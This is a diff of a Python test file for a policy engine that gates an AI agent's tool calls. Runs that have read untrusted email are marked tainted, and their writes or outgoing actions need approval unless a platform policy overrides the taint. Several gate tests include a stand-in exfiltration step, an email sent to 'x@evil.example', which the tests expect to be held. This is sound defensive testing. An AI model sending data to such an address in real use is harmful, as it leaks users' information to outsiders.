@@ -15,8 +15,16 @@ from tests.runs.factories import grant, make_skill, published_policy, rule
 
 
 def compiled(rules, *, scope="tenant", policy_id=1):
-    return engine.CompiledPolicy(policy_id=policy_id, name="p", scope=scope, tenant_id=1, skill_name="",
-                                 version_id=None, version_number=1, rules=engine.compile_rules(rules))
+    return engine.CompiledPolicy(
+        policy_id=policy_id,
+        name="p",
+        scope=scope,
+        tenant_id=1,
+        skill_name="",
+        version_id=None,
+        version_number=1,
+        rules=engine.compile_rules(rules),
+    )
 
 
 def r(rule_id, verdict, condition="true", **extra):
@@ -24,11 +32,14 @@ def r(rule_id, verdict, condition="true", **extra):
 
 
 def ctx(effect="write", tainted=True):
-    return engine.sample_context(skill={"name": "support.write_note", "effect": effect, "namespace": "support"},
-                                 run={"tainted": tainted, "taint_source": "read inbound email" if tainted else ""})
+    return engine.sample_context(
+        skill={"name": "support.write_note", "effect": effect, "namespace": "support"},
+        run={"tainted": tainted, "taint_source": "read inbound email" if tainted else ""},
+    )
 
 
 # The engine -------------------------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("effect", ["write", "external"])
 def test_tainted_write_or_external_with_tenant_allow_rule_is_raised_to_confirm(effect):
@@ -84,9 +95,13 @@ def test_override_taint_counts_only_on_the_deciding_rule():
     assert engine.evaluate(context=ctx("write"), policies=[platform, tenant]).verdict == "allow"
 
 
-@pytest.mark.parametrize("effect,approval_required,floor_id", [
-    ("destructive", False, "floor:destructive"), ("write", True, "floor:approval_required"),
-])
+@pytest.mark.parametrize(
+    "effect,approval_required,floor_id",
+    [
+        ("destructive", False, "floor:destructive"),
+        ("write", True, "floor:approval_required"),
+    ],
+)
 def test_override_taint_never_lowers_the_destructive_or_approval_floors(effect, approval_required, floor_id):
     platform = compiled([r("trusted", "allow", override_taint=True)], scope="platform", policy_id=3)
     decision = engine.evaluate(context=ctx(effect), policies=[platform], approval_required=approval_required)
@@ -94,9 +109,13 @@ def test_override_taint_never_lowers_the_destructive_or_approval_floors(effect, 
     assert "taint_overridden_by" not in decision.as_dict()
 
 
-@pytest.mark.parametrize("other_rules", [
-    [r("x", "confirm")], [],
-])
+@pytest.mark.parametrize(
+    "other_rules",
+    [
+        [r("x", "confirm")],
+        [],
+    ],
+)
 def test_deny_beats_everything(other_rules):
     platform = compiled([r("trusted", "allow", override_taint=True)], scope="platform", policy_id=3)
     tenant = compiled([*other_rules, r("no", "deny")], policy_id=4)
@@ -118,23 +137,31 @@ def test_compiled_rule_keeps_override_taint():
 
 # Saving and publishing --------------------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("scope", ["tenant", "skill"])
 def test_check_rules_refuses_override_taint_outside_platform(scope):
     problems = engine.check_rules([r("sneaky", "allow", override_taint=True)], scope=scope)
     assert "Only a platform policy may lower the taint floor" in problems[0][0]
 
 
-@pytest.mark.parametrize("rule_,message", [
-    (r("a", "allow", override_taint="yes"), "true or false"),
-    (r("a", "deny", override_taint=True), "only means something on an allow rule"),
-])
+@pytest.mark.parametrize(
+    "rule_,message",
+    [
+        (r("a", "allow", override_taint="yes"), "true or false"),
+        (r("a", "deny", override_taint=True), "only means something on an allow rule"),
+    ],
+)
 def test_check_rules_refuses_malformed_override_taint(rule_, message):
     assert message in engine.check_rules([rule_], scope="platform")[0][0]
 
 
 def test_check_rules_accepts_override_taint_on_a_platform_allow_rule():
-    assert engine.check_rules([r("a", "allow", override_taint=True), r("b", "allow", override_taint=False)],
-                              scope="platform") == {}
+    assert (
+        engine.check_rules(
+            [r("a", "allow", override_taint=True), r("b", "allow", override_taint=False)], scope="platform"
+        )
+        == {}
+    )
 
 
 @pytest.mark.django_db
@@ -143,8 +170,13 @@ def test_tenant_policy_cannot_save_or_publish_override_taint(acme, tenant_admin)
     with pytest.raises(services.RulesInvalid, match="Only a platform policy"):
         services.save_draft(policy=policy, rules=[r("sneaky", "allow", override_taint=True)], user=tenant_admin)
     with pytest.raises(services.RulesInvalid, match="Only a platform policy"):
-        services.create_policy(name="q", scope=Scope.TENANT, tenant=acme, created_by=tenant_admin,
-                               rules=[r("sneaky", "allow", override_taint=True)])
+        services.create_policy(
+            name="q",
+            scope=Scope.TENANT,
+            tenant=acme,
+            created_by=tenant_admin,
+            rules=[r("sneaky", "allow", override_taint=True)],
+        )
     draft = services.draft_of(policy)  # written around the service: publishing still refuses it
     draft.rules = [r("sneaky", "allow", override_taint=True)]
     draft.save(update_fields=["rules"])
@@ -155,8 +187,11 @@ def test_tenant_policy_cannot_save_or_publish_override_taint(acme, tenant_admin)
 @pytest.mark.django_db
 def test_platform_override_is_stored_published_and_in_the_snapshot(platform_admin):
     policy = services.create_policy(name="trusted", scope=Scope.PLATFORM, created_by=platform_admin)
-    draft = services.save_draft(policy=policy, user=platform_admin, rules=[
-        r("trusted", "allow", 'skill.name == "support.write_note"', override_taint=True), r("plain", "allow")])
+    draft = services.save_draft(
+        policy=policy,
+        user=platform_admin,
+        rules=[r("trusted", "allow", 'skill.name == "support.write_note"', override_taint=True), r("plain", "allow")],
+    )
     assert draft.rules[0]["override_taint"] is True and "override_taint" not in draft.rules[1]
     services.publish_policy_version(version=draft, user=platform_admin)
     [section] = latest_snapshot().body["policies"]
@@ -167,9 +202,15 @@ def test_platform_override_is_stored_published_and_in_the_snapshot(platform_admi
 
 # The editor -------------------------------------------------------------------------------------------
 
+
 def _editor_post(**extra) -> dict:
-    return {"rule_id": ["trusted", "plain", ""], "verdict": ["allow", "allow", "allow"],
-            "condition": ["true", "true", ""], "reason": ["trusted writes", "plain", ""], **extra}
+    return {
+        "rule_id": ["trusted", "plain", ""],
+        "verdict": ["allow", "allow", "allow"],
+        "condition": ["true", "true", ""],
+        "reason": ["trusted writes", "plain", ""],
+        **extra,
+    }
 
 
 @pytest.mark.django_db
@@ -202,6 +243,7 @@ def test_tenant_editor_has_no_checkbox_and_refuses_a_forged_one(client, acme, te
 
 # Through the real gate --------------------------------------------------------------------------------
 
+
 @pytest.fixture
 def notes(acme):
     make_skill("support.write_note", effect="write", adapter="python:test.echo", publish=False)
@@ -209,20 +251,34 @@ def notes(acme):
     make_skill("support.read_inbox", adapter="python:test.echo", untrusted_output=True, publish=False)
     make_skill("support.peek", adapter="python:test.echo", publish=False)
     grant(acme, "support.*")
-    published_policy([rule("support-may-write", "allow", 'skill.namespace == "support"')], scope="tenant",
-                     tenant=acme, name="routine allows")
+    published_policy(
+        [rule("support-may-write", "allow", 'skill.namespace == "support"')],
+        scope="tenant",
+        tenant=acme,
+        name="routine allows",
+    )
     latest_snapshot()
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize("first", [
-    call("c1", "support.peek", taint="read a customer email"),
-    call("c1", "support.read_inbox"),
-])
+@pytest.mark.parametrize(
+    "first",
+    [
+        call("c1", "support.peek", taint="read a customer email"),
+        call("c1", "support.read_inbox"),
+    ],
+)
 def test_gate_tainted_batch_with_tenant_allow_rule_asks_for_the_write(agent_client, notes, first):
     run = start_run(agent_client)
-    body = post_calls(agent_client, run["run_id"], [first, call("c2", "support.write_note", {"text": "hi"}),
-                                                    call("c3", "support.send_email", {"to": "x@evil.example"})])
+    body = post_calls(
+        agent_client,
+        run["run_id"],
+        [
+            first,
+            call("c2", "support.write_note", {"text": "hi"}),
+            call("c3", "support.send_email", {"to": "x@evil.example"}),
+        ],
+    )
     assert body.status_code == 200, body.content
     assert [x["status"] for x in body.json()["results"]] == ["ok", "approval_required", "approval_required"]
     decision = ToolCall.objects.get(call_id="c2").decision
@@ -239,12 +295,20 @@ def test_gate_untainted_write_with_tenant_allow_rule_runs(agent_client, notes):
 
 @pytest.mark.django_db
 def test_gate_platform_override_lets_the_tainted_write_run(agent_client, notes):
-    platform = published_policy([rule("trusted-notes", "allow", 'skill.name == "support.write_note"')
-                                 | {"override_taint": True}], name="trusted notes")
+    platform = published_policy(
+        [rule("trusted-notes", "allow", 'skill.name == "support.write_note"') | {"override_taint": True}],
+        name="trusted notes",
+    )
     run = start_run(agent_client)
-    body = post_calls(agent_client, run["run_id"], [call("c1", "support.peek", taint=True),
-                                                    call("c2", "support.write_note", {"text": "hi"}),
-                                                    call("c3", "support.send_email", {"to": "x@evil.example"})])
+    body = post_calls(
+        agent_client,
+        run["run_id"],
+        [
+            call("c1", "support.peek", taint=True),
+            call("c2", "support.write_note", {"text": "hi"}),
+            call("c3", "support.send_email", {"to": "x@evil.example"}),
+        ],
+    )
     assert [x["status"] for x in body.json()["results"]] == ["ok", "ok", "approval_required"]
     decision = ToolCall.objects.get(call_id="c2").decision
     assert decision["taint_overridden_by"] == f"p{platform.pk}/trusted-notes" and "floor" not in decision
